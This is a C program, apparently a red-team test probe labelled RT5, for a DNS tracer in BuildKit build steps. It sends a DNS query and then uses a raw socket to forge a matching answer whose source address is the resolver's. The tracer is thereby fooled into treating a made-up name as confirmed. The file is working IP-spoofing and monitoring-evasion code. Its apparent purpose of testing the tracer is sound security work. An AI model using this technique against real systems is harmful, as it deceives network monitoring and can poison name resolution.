// A step answers its own DNS question in the name of the resolver it asked.
// It sends "<name> A?" from 127.0.0.1:<port> to the resolver (argv[1], port
// 53), then, with a raw IP socket (CAP_NET_RAW, which BuildKit's default set
// holds), writes the answer "<name> A 127.0.0.1" into its own socket with the
// resolver's address and port 53 as the source, and reads it. To the kernel,
// and so to the tracer, that is an answer from the server the question went
// to, with its ID and question: a confirmed name.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t qname(unsigned char *p, const char *name)
{
	size_t n = 0;
	while (*name) {
		const char *dot = strchr(name, '.');
		size_t l = dot ? (size_t)(dot - name) : strlen(name);
		p[n++] = (unsigned char)l;
		memcpy(p + n, name, l);
		n += l;
		name += l;
		if (*name == '.')
			name++;
	}
	p[n++] = 0;
	return n;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: dnsspoof RESOLVER-IP NAME\n");
		return 2;
	}
	struct in_addr resolver;
	if (inet_pton(AF_INET, argv[1], &resolver) != 1)
		return 2;
	int cli = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in c = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001)};
	socklen_t cl = sizeof(c);
	if (cli < 0 || bind(cli, (struct sockaddr *)&c, sizeof(c)) < 0 || getsockname(cli, (struct sockaddr *)&c, &cl) < 0) {
		perror("RT5 bind");
		return 1;
	}
	/* The question, to the resolver. */
	unsigned char q[300], a[400];
	size_t n = 0;
	static const unsigned char qh[] = {0x42, 0x42, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
	memcpy(q, qh, sizeof(qh));
	n = sizeof(qh);
	n += qname(q + n, argv[2]);
	q[n++] = 0, q[n++] = 1, q[n++] = 0, q[n++] = 1; /* A IN */
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr = resolver};
	if (sendto(cli, q, n, 0, (struct sockaddr *)&s, sizeof(s)) < 0) {
		perror("RT5 sendto");
		return 1;
	}
	/* The answer: same ID and question, response bit, one A record. */
	size_t dn = 0;
	unsigned char *d = a + sizeof(struct iphdr) + sizeof(struct udphdr);
	memcpy(d, q, n);
	d[2] = 0x81, d[3] = 0x80, d[7] = 1; /* response, RD RA; ANCOUNT 1 */
	dn = n;
	static const unsigned char rr[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1};
	memcpy(d + dn, rr, sizeof(rr));
	dn += sizeof(rr);
	struct udphdr *u = (struct udphdr *)(a + sizeof(struct iphdr));
	u->source = htons(53);
	u->dest = c.sin_port;
	u->len = htons(sizeof(struct udphdr) + dn);
	u->check = 0; /* no checksum: allowed for UDP over IPv4 */
	struct iphdr *ip = (struct iphdr *)a;
	memset(ip, 0, sizeof(*ip));
	ip->version = 4, ip->ihl = 5, ip->ttl = 64, ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons(sizeof(struct iphdr) + sizeof(struct udphdr) + dn);
	ip->saddr = resolver.s_addr;
	ip->daddr = c.sin_addr.s_addr;
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IP_HDRINCL */
	if (raw < 0) {
		perror("RT5 raw socket");
		return 3;
	}
	printf("RT5 RAW ok\n");
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = c.sin_addr};
	if (sendto(raw, a, sizeof(struct iphdr) + sizeof(struct udphdr) + dn, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("RT5 raw sendto");
		return 1;
	}
	unsigned char buf[512];
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	ssize_t got = recvfrom(cli, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);
	if (got < 0) {
		perror("RT5 recvfrom");
		return 1;
	}
	char fa[INET_ADDRSTRLEN];
	inet_ntop(AF_INET, &from.sin_addr, fa, sizeof(fa));
	printf("RT5 ANSWER %zd bytes from %s:%d\n", got, fa, ntohs(from.sin_port));
	fflush(stdout);
	return 0;
}
